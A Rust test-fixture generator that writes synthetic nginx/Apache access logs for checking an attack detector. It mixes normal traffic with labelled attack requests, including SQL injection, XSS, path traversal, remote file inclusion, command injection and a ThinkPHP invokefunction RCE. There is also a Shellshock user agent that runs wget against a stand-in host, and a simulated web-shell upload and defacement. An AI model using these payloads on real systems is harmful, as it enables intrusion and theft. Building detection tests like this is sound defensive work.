//! A deterministic generator of access logs for tests and benchmarks:
//! seeded, invented data only (`example.gov.test`; clients in 10.0.0.0/8,
//! attackers in 203.0.113.0/24, flood sources in 198.51.100.0/24 and
//! 10.250.0.0/16).
//!
//! Normal traffic has a daily rhythm, skewed clients, crawlers, static
//! files, searches in natural language (with words like "select" and
//! "union"), percent-encoded Chinese paths and queries, long tracking
//! query strings, ordinary 404s and successful logins. Into it the
//! generator can put one attacker per attack class, a flood, and a
//! defacement story (an upload form, an upload POST, the new script
//! requested and used, then the home page served at a different size).
//! It returns the [`Truth`] so tests can check what must be found — and
//! that nothing else is.

use std::io::{self, Write};

use crate::detect::AttackClass;
use crate::ip::IpKey;
use crate::time::civil_from_days;

/// What to generate.
#[derive(Debug, Clone, PartialEq)]
pub struct FixtureSpec {
    /// Seed: the same spec always gives the same bytes.
    pub seed: u64,
    /// First second (Unix milliseconds).
    pub start_ms: i64,
    /// Span in seconds.
    pub duration_s: i64,
    /// Lines of normal traffic in all (spread with a daily rhythm).
    pub normal_lines: u64,
    /// One attacker per class, a scanner, a brute-forcer.
    pub attacks: bool,
    /// A flood: (offset in seconds, duration in seconds, requests per second).
    pub flood: Option<(i64, i64, u32)>,
    /// The defacement story, starting at this offset in seconds.
    pub defacement: Option<i64>,
}

impl FixtureSpec {
    /// A day of traffic starting 2026-11-20T00:00:00Z with everything in it.
    pub fn day(seed: u64, normal_lines: u64) -> Self {
        FixtureSpec {
            seed,
            start_ms: 1_795_132_800_000,
            duration_s: 86_400,
            normal_lines,
            attacks: true,
            flood: Some((10 * 3600, 120, 0)),
            defacement: Some(15 * 3600),
        }
    }
}

/// One attack the generator put in.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrueAttack {
    /// The attacker.
    pub ip: IpKey,
    /// What detection should call it.
    pub class: AttackClass,
}

/// The defacement story's facts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DefacementTruth {
    /// The attacker.
    pub attacker: IpKey,
    /// The upload POST.
    pub upload_ms: i64,
    /// The shell's path.
    pub shell_path: String,
    /// The shell's first request.
    pub shell_first_ms: i64,
    /// The page that was changed.
    pub page_path: String,
    /// First request served the changed page.
    pub changed_ms: i64,
    /// Its size before and after.
    pub sizes: (u64, u64),
}

/// What was generated.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Truth {
    /// Lines written.
    pub lines: u64,
    /// Attack requests by attacker and class (one entry per pair).
    pub attacks: Vec<TrueAttack>,
    /// Every address that sent an attack.
    pub attackers: Vec<IpKey>,
    /// The flood: start, end (Unix milliseconds) and its heavy sources.
    pub flood: Option<(i64, i64, Vec<IpKey>)>,
    /// The defacement.
    pub defacement: Option<DefacementTruth>,
    /// Benign requests with odd URLs (searches with SQL words, Chinese
    /// paths, long tracking strings).
    pub odd_benign: u64,
}

/// SplitMix64: small, fast, good enough for traffic.
#[derive(Debug, Clone)]
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn unit(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.44(0x18002c2d) NetType/WIFI Language/zh_CN",
    "Mozilla/5.0 (Linux; Android 13; V2227A) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/116.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)",
    "Mozilla/5.0 (compatible; Bytespider; spider-feedback@bytedance.com)",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "curl/8.5.0",
];

const SEARCHES: &[&str] = &[
    "how+to+select+a+union+representative",
    "trade+union+select+committee+meeting",
    "select+the+best+option+from+the+list",
    "%E8%B4%A2%E6%94%BF%E9%A2%84%E7%AE%97%E5%85%AC%E5%BC%80",
    "%E6%94%BF%E5%BA%9C%E9%87%87%E8%B4%AD+2026",
    "sleep+apnea+clinic+hours",
    "drop+table+tennis+class",
    "O%27Brien+and+sons",
    "order+by+date",
    "1%2B1%3D2",
    "javascript+tutorial+for+beginners",
    "union+station+opening+times",
];

const PAGES: &[&str] = &[
    "/",
    "/index.html",
    "/zwgk/tzgg/index.html",
    "/zwgk/czyjs/index.html",
    "/%E6%94%BF%E5%8A%A1%E5%85%AC%E5%BC%80/%E9%80%9A%E7%9F%A5%E5%85%AC%E5%91%8A/index.html",
    "/news/list.php?cat=3&page=2",
    "/about/contact.php",
    "/bsfw/index.html",
    "/hdjl/zxft/index.html",
    "/member/upload.php",
];

const STATIC: &[&str] = &[
    "/static/css/site.css",
    "/static/js/app.3f9a1c.js",
    "/static/js/jquery.min.js",
    "/images/logo.png",
    "/images/banner1.jpg",
    "/images/banner2.jpg",
    "/favicon.ico",
    "/static/tinymce/tinymce.min.js",
];

const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

/// The page whose size changes in the defacement story.
pub const HOME_PAGE: &str = "/index.html";
const HOME_SIZE: u64 = 18_342;
const DEFACED_SIZE: u64 = 4_410;

/// One request to render.
#[derive(Debug, Clone)]
struct Entry {
    ms: i64,
    ip: IpKey,
    method: &'static str,
    target: String,
    status: u16,
    bytes: u64,
    referer: String,
    agent: String,
}

fn v4(a: u8, b: u8, c: u8, d: u8) -> IpKey {
    IpKey::from_ip(std::net::IpAddr::V4(std::net::Ipv4Addr::new(a, b, c, d)))
}

/// Formats the CLF time in +08:00 (the fixture sites are in China).
fn clf_time(ms: i64, out: &mut Vec<u8>) {
    let local = ms.div_euclid(1000) + 8 * 3600;
    let (year, month, day) = civil_from_days(local.div_euclid(86_400));
    let second = local.rem_euclid(86_400);
    let _ = write!(
        out,
        "{:02}/{}/{}:{:02}:{:02}:{:02} +0800",
        day,
        MONTHS[month as usize - 1],
        year,
        second / 3600,
        second / 60 % 60,
        second % 60
    );
}

fn render(entry: &Entry, out: &mut Vec<u8>) {
    let _ = write!(out, "{} - - [", entry.ip);
    clf_time(entry.ms, out);
    let _ = writeln!(
        out,
        "] \"{} {} HTTP/1.1\" {} {} \"{}\" \"{}\"",
        entry.method, entry.target, entry.status, entry.bytes, entry.referer, entry.agent
    );
}

fn normal(rng: &mut Rng, ms: i64, home_size: u64, truth: &mut Truth) -> Entry {
    // Skewed clients: a few heavy, many light.
    let u = rng.unit();
    let client = (u * u * u * 40_000.0) as u32;
    let ip = v4(
        10,
        (client >> 16) as u8 + 1,
        (client >> 8) as u8,
        client as u8,
    );
    let agent = if client.is_multiple_of(17) {
        AGENTS[6 + (client as usize % 4)]
    } else {
        AGENTS[client as usize % AGENTS.len()]
    };
    let roll = rng.below(1000);
    let (method, target, status, bytes) = match roll {
        0..=449 => {
            let s = *rng.pick(STATIC);
            (
                "GET",
                s.to_string(),
                if rng.below(4) == 0 { 304 } else { 200 },
                1_000 + (s.len() as u64 * 911) % 90_000,
            )
        }
        450..=699 => {
            let page = *rng.pick(PAGES);
            let size = if page == HOME_PAGE {
                home_size
            } else {
                9_000 + (page.len() as u64 * 7919) % 40_000
            };
            (
                "GET",
                page.to_string(),
                200,
                size + rng.below(50) * u64::from(page != HOME_PAGE),
            )
        }
        700..=859 => {
            let id = 100_000 + rng.below(5_000);
            (
                "GET",
                format!("/news/2026/11/content_{id}.html"),
                200,
                12_000 + id % 9_000,
            )
        }
        860..=909 => {
            truth.odd_benign += 1;
            (
                "GET",
                format!("/search?q={}&page={}", rng.pick(SEARCHES), 1 + rng.below(3)),
                200,
                23_000 + rng.below(2_000),
            )
        }
        910..=939 => {
            truth.odd_benign += 1;
            (
                "GET",
                format!(
                    "/landing?utm_source=newsletter&utm_medium=email&utm_campaign=2026_winter_notice&utm_content=header_link&utm_term=budget%20report&gclid=EAIaIQobChMI8q2X3b7m9QIVh4BQBh0XcQ7bEAAYASAAEg{}&redirect=https%3A%2F%2Fexample.gov.test%2Fportal%2Fhome%3Ftab%3Dnotices",
                    rng.below(1_000_000)
                ),
                200,
                15_000,
            )
        }
        940..=964 => ("GET", "/user/login".to_string(), 200, 6_100),
        965..=979 => ("POST", "/user/login".to_string(), 302, 0),
        _ => (
            "GET",
            format!(
                "/news/2025/{:02}/content_{}.html",
                1 + rng.below(12),
                rng.below(100_000)
            ),
            404,
            1_520,
        ),
    };
    let referer = if rng.below(3) == 0 {
        "-".to_string()
    } else {
        "https://example.gov.test/".to_string()
    };
    Entry {
        ms,
        ip,
        method,
        target,
        status,
        bytes,
        referer,
        agent: agent.to_string(),
    }
}

fn attack_entries(start_ms: i64, duration_s: i64, truth: &mut Truth) -> Vec<Entry> {
    let browser = AGENTS[0];
    let mut entries = Vec::new();
    let mut add = |ip: IpKey,
                   class: Option<AttackClass>,
                   ms: i64,
                   method: &'static str,
                   target: &str,
                   status: u16,
                   agent: &str| {
        entries.push(Entry {
            ms,
            ip,
            method,
            target: target.to_string(),
            status,
            bytes: 512,
            referer: "-".into(),
            agent: agent.to_string(),
        });
        if let Some(class) = class
            && !truth.attacks.iter().any(|a| a.ip == ip && a.class == class)
        {
            truth.attacks.push(TrueAttack { ip, class });
        }
        if !truth.attackers.contains(&ip) {
            truth.attackers.push(ip);
        }
    };
    let at = |fraction: f64| start_ms + (duration_s as f64 * fraction) as i64 * 1000;
    let per_class: &[(AttackClass, u8, &[&str], &str)] = &[
        (
            AttackClass::Sqli,
            10,
            &[
                "/news.php?id=-1%20union%20select%201,2,concat(username,0x3a,password)%20from%20admin--",
                "/news.php?id=1%27%20and%20sleep(5)--%20-",
                "/login.php?user=admin%27%20or%20%271%27=%271",
            ],
            browser,
        ),
        (
            AttackClass::Xss,
            11,
            &[
                "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
                "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
            ],
            browser,
        ),
        (
            AttackClass::PathTraversal,
            12,
            &[
                "/download.php?file=../../../../etc/passwd",
                "/static/..%2f..%2f..%2fwindows/win.ini",
            ],
            browser,
        ),
        (
            AttackClass::FileInclusion,
            13,
            &[
                "/index.php?page=php://filter/convert.base64-encode/resource=config.php",
                "/index.php?inc=http://203.0.113.200/shell.txt?",
            ],
            browser,
        ),
        (
            AttackClass::Rce,
            14,
            &[
                "/cgi-bin/ping.cgi?ip=127.0.0.1;cat%20/etc/passwd",
                "/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
            ],
            browser,
        ),
        (
            AttackClass::Scanner,
            15,
            &["/", "/index.php?id=1"],
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
        ),
        (
            AttackClass::Probe,
            16,
            &[
                "/.env",
                "/.git/config",
                "/www.zip",
                "/phpmyadmin/",
                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            ],
            browser,
        ),
        (
            AttackClass::WebShell,
            19,
            &["/uploads/c99.php", "/images/1.php", "/wso.php"],
            browser,
        ),
    ];
    for (i, (class, host, targets, agent)) in per_class.iter().enumerate() {
        let base = at(0.05 + 0.03 * i as f64);
        for (k, target) in targets.iter().enumerate() {
            let status = if *class == AttackClass::WebShell || *class == AttackClass::Probe {
                404
            } else {
                200
            };
            add(
                v4(203, 0, 113, *host),
                Some(*class),
                base + k as i64 * 2_000,
                "GET",
                target,
                status,
                agent,
            );
        }
    }
    // Shellshock in the user agent.
    add(
        v4(203, 0, 113, 14),
        Some(AttackClass::Rce),
        at(0.3),
        "GET",
        "/cgi-bin/status",
        200,
        "() { :; }; /bin/bash -c 'wget http://203.0.113.200/x'",
    );
    // A word-list scanner with a browser agent: only its 404s give it away.
    let base = at(0.4);
    for k in 0..40 {
        add(
            v4(203, 0, 113, 17),
            Some(AttackClass::Scanner),
            base + k * 500,
            "GET",
            &format!("/admin_{k}/login.asp"),
            404,
            browser,
        );
    }
    // Password guessing.
    let base = at(0.45);
    for k in 0..30 {
        add(
            v4(203, 0, 113, 18),
            Some(AttackClass::BruteForce),
            base + k * 2_000,
            "POST",
            "/user/login",
            200,
            browser,
        );
    }
    entries
}

fn defacement_entries(start_ms: i64, offset_s: i64, truth: &mut Truth) -> Vec<Entry> {
    let attacker = v4(203, 0, 113, 66);
    let agent = AGENTS[3];
    let t0 = start_ms + offset_s * 1000;
    let shell = "/uploads/2026/11/20/avatar_8f3a.php";
    let steps: Vec<(i64, &'static str, String, u16, u64)> = vec![
        (0, "GET", "/member/center.html".into(), 200, 8_100),
        (20_000, "GET", "/member/upload.php".into(), 200, 3_300),
        (45_000, "POST", "/member/upload.php".into(), 200, 180),
        (135_000, "GET", shell.into(), 200, 2_100),
        (140_000, "POST", shell.into(), 200, 56),
        (150_000, "GET", format!("{shell}?cmd=whoami"), 200, 12),
        (170_000, "POST", shell.into(), 200, 33),
        (200_000, "GET", HOME_PAGE.into(), 200, DEFACED_SIZE),
    ];
    let mut entries = Vec::new();
    for (delay, method, target, status, bytes) in steps {
        entries.push(Entry {
            ms: t0 + delay,
            ip: attacker,
            method,
            target,
            status,
            bytes,
            referer: "-".into(),
            agent: agent.into(),
        });
    }
    truth.attackers.push(attacker);
    truth.attacks.push(TrueAttack {
        ip: attacker,
        class: AttackClass::WebShell,
    });
    truth.defacement = Some(DefacementTruth {
        attacker,
        upload_ms: t0 + 45_000,
        shell_path: shell.into(),
        shell_first_ms: t0 + 135_000,
        page_path: HOME_PAGE.into(),
        changed_ms: t0 + 200_000,
        sizes: (HOME_SIZE, DEFACED_SIZE),
    });
    entries
}

/// Writes the log as nginx/Apache `combined` lines; returns the truth.
pub fn generate(spec: &FixtureSpec, out: &mut dyn Write) -> io::Result<Truth> {
    let mut rng = Rng(spec.seed ^ 0x5eed_10c5);
    let mut truth = Truth::default();
    let mut injected = Vec::new();
    if spec.attacks {
        injected.extend(attack_entries(spec.start_ms, spec.duration_s, &mut truth));
    }
    if let Some(offset) = spec.defacement {
        injected.extend(defacement_entries(spec.start_ms, offset, &mut truth));
    }
    let changed_ms = truth.defacement.as_ref().map_or(i64::MAX, |d| d.changed_ms);
    injected.sort_by_key(|e| e.ms);
    let mean_rps = spec.normal_lines as f64 / spec.duration_s.max(1) as f64;
    let flood_rps = spec.flood.map(|(_, _, rps)| {
        if rps == 0 {
            (mean_rps * 20.0).max(400.0) as u32
        } else {
            rps
        }
    });
    let heavy_bots: Vec<IpKey> = (0..20).map(|i| v4(198, 51, 100, 10 + i)).collect();
    if let Some((offset, duration, _)) = spec.flood {
        let start = spec.start_ms + offset * 1000;
        truth.flood = Some((start, start + duration * 1000, heavy_bots.clone()));
    }
    let mut buffer: Vec<u8> = Vec::with_capacity(1 << 20);
    let mut written: u64 = 0;
    let mut next_injected = 0;
    let mut second_entries: Vec<Entry> = Vec::new();
    for second in 0..spec.duration_s {
        let ms0 = spec.start_ms + second * 1000;
        // Daily rhythm: quiet at 04:00 local (20:00 UTC), busiest at 16:00 local.
        let hour = ((ms0 / 1000 + 8 * 3600).rem_euclid(86_400)) as f64 / 3600.0;
        let rhythm = 1.0 - 0.6 * ((hour - 4.0) / 24.0 * std::f64::consts::TAU).cos();
        let noise = 0.85 + 0.3 * rng.unit();
        let mut count = (mean_rps * rhythm * noise + rng.unit()) as u64;
        if written + count > spec.normal_lines || second == spec.duration_s - 1 {
            count = spec.normal_lines.saturating_sub(written);
        }
        second_entries.clear();
        for _ in 0..count {
            let ms = ms0 + rng.below(1000) as i64;
            let home = if ms >= changed_ms {
                DEFACED_SIZE
            } else {
                HOME_SIZE
            };
            second_entries.push(normal(&mut rng, ms, home, &mut truth));
        }
        written += count;
        if let (Some((offset, duration, _)), Some(rps)) = (spec.flood, flood_rps)
            && second >= offset
            && second < offset + duration
        {
            for k in 0..rps {
                let ip = if k % 5 < 3 {
                    heavy_bots[rng.below(heavy_bots.len() as u64) as usize]
                } else {
                    let n = rng.below(2_000) as u16;
                    v4(10, 250, (n >> 8) as u8, n as u8)
                };
                let target = if k % 2 == 0 {
                    "/".to_string()
                } else {
                    format!("/search?q={}", rng.below(1_000_000))
                };
                second_entries.push(Entry {
                    ms: ms0 + rng.below(1000) as i64,
                    ip,
                    method: "GET",
                    target,
                    status: 200,
                    bytes: 23_000,
                    referer: "-".into(),
                    agent: AGENTS[0].into(),
                });
            }
        }
        while next_injected < injected.len() && injected[next_injected].ms < ms0 + 1000 {
            second_entries.push(injected[next_injected].clone());
            next_injected += 1;
        }
        second_entries.sort_by_key(|e| e.ms);
        for entry in &second_entries {
            render(entry, &mut buffer);
            truth.lines += 1;
        }
        if buffer.len() >= 1 << 20 {
            out.write_all(&buffer)?;
            buffer.clear();
        }
    }
    out.write_all(&buffer)?;
    Ok(truth)
}

/// The generated log in memory.
pub fn generate_bytes(spec: &FixtureSpec) -> (Vec<u8>, Truth) {
    let mut bytes = Vec::new();
    let truth = generate(spec, &mut bytes).expect("writing to memory cannot fail");
    (bytes, truth)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_sized() {
        let spec = FixtureSpec {
            duration_s: 3_600,
            ..FixtureSpec::day(7, 20_000)
        };
        let spec = FixtureSpec {
            flood: None,
            defacement: None,
            ..spec
        };
        let (a, truth) = generate_bytes(&spec);
        let (b, _) = generate_bytes(&spec);
        assert_eq!(a, b);
        assert_eq!(memchr::memchr_iter(b'\n', &a).count() as u64, truth.lines);
        assert!(truth.lines >= 20_000, "{}", truth.lines);
        let (c, _) = generate_bytes(&FixtureSpec { seed: 8, ..spec });
        assert_ne!(a, c);
    }
}
